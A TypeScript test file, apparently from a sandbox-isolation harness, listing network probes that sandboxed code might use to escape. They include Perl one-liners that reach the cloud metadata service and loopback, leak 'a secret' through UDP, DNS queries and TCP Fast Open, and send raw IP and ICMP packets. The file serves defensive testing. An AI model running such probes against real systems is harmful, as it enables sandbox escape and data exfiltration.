import type { NetworkAttack } from "../../../harness/attacks/network.ts";
import { anybody, connected } from "./names.ts";
import { dial, perl, send } from "./scripts.ts";

const ADDRESSES: readonly [name: string, what: string, address: string, port: number][] = [
  ["host-loopback", "the host's loopback", "127.0.0.1", 8080],
  ["gateway", "the gateway that QEMU would have", "10.0.2.2", 80],
  ["metadata", "the metadata service", "169.254.169.254", 80],
  ["public", "a public address", "93.184.215.14", 443],
  ["private", "a private network", "192.168.1.1", 80],
  ["loopback6", "the loopback by IPv6", "::1", 8080],
  ["mapped", "the loopback in a mapped address", "::ffff:127.0.0.1", 8080],
  ["public6", "a public address by IPv6", "2606:4700::1111", 443],
];

const RAW_SOCKET = "only root opens raw sockets on the host, as the control does";

/** An IPv4 packet with a datagram for port 4041 of somebody else. */
const DATAGRAM = `$datagram = pack("n4", 4041, 4041, 12, 0) . "raw!"; $to = inet_aton("10.0.0.1"); $from = inet_aton("10.0.0.2");
$packet = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $datagram, 1, 0, 64, 17, 0, $from, $to) . $datagram;
$sum = 0; $sum += $_ for unpack("n10", $packet); $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; substr($packet, 10, 2) = pack("n", ~$sum & 0xffff);`;
const REFUSED = `print "refused: $!\\n"`;

/** What asks nobody, and wants to be outside at once. */
export const networkDirect: readonly NetworkAttack[] = [
  ...ADDRESSES.map(
    ([name, what, address, port]): NetworkAttack => ({
      id: `network-direct.${name}`,
      tries: `connects to ${what}`,
      script: dial(address, port),
      reached: connected,
      isDirect: true,
    }),
  ),
  {
    id: "network-direct.udp",
    tries: "sends a datagram",
    script: send("127.0.0.1", 4041, "a secret"),
    reached: anybody,
    isDirect: true,
  },
  {
    id: "network-direct.dns",
    tries: "puts a secret into a question for a name",
    script: perl(`print gethostbyname("a-secret.allowed.example") ? "known\\n" : "unknown\\n";`),
    reached: anybody,
    isDirect: true,
  },
  {
    id: "network-direct.dns-raw",
    tries: "asks a server of its own choice for a name",
    script: send("8.8.8.8", 53, "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x08a-secret\x05other\x07example\0\0\x01\0\x01"),
    reached: anybody,
    isDirect: true,
  },
  {
    id: "network-direct.echo",
    tries: "sends an echo request",
    script: perl(
      `socket(S, AF_INET, SOCK_RAW, 1) or do { ${REFUSED}; exit }; send(S, pack("CCnnn", 8, 0, 0xf7fe, 1, 0), 0, pack_sockaddr_in(0, inet_aton("10.0.0.1"))) or ${REFUSED};`,
    ),
    reached: anybody,
    isDirect: true,
    needsRoot: RAW_SOCKET,
  },
  {
    id: "network-direct.raw",
    tries: "makes a datagram of its own with all its headers",
    script: perl(
      `${DATAGRAM} socket(S, AF_INET, SOCK_RAW, 255) or do { ${REFUSED}; exit }; send(S, $packet, 0, pack_sockaddr_in(0, $to)) or ${REFUSED};`,
    ),
    reached: anybody,
    isDirect: true,
    needsRoot: RAW_SOCKET,
  },
  {
    id: "network-direct.packet",
    tries: "puts a packet onto an interface",
    script: perl(
      `${DATAGRAM} socket(S, 17, SOCK_DGRAM, 0x0008) or do { ${REFUSED}; exit }; send(S, $packet, 0, pack("SnlSCCa8", 17, 0x0800, 1, 0, 0, 6, "")) or ${REFUSED};`,
    ),
    reached: anybody,
    isDirect: true,
    needsRoot: RAW_SOCKET,
  },
  {
    id: "network-direct.fast-open",
    tries: "sends data along with the wish to connect",
    script: perl(
      `socket(S, AF_INET, SOCK_STREAM, 0) or die "$!"; send(S, "a secret", 0x20000000, pack_sockaddr_in(8080, inet_aton("93.184.215.14"))) or ${REFUSED};`,
    ),
    reached: connected,
    isDirect: true,
  },
  {
    id: "network-direct.multipath",
    tries: "connects by several paths at once",
    script: perl(
      `socket(S, AF_INET, SOCK_STREAM, 262) or do { ${REFUSED}; exit }; connect(S, pack_sockaddr_in(8080, inet_aton("93.184.215.14"))) or ${REFUSED};`,
    ),
    reached: connected,
    isDirect: true,
  },
];
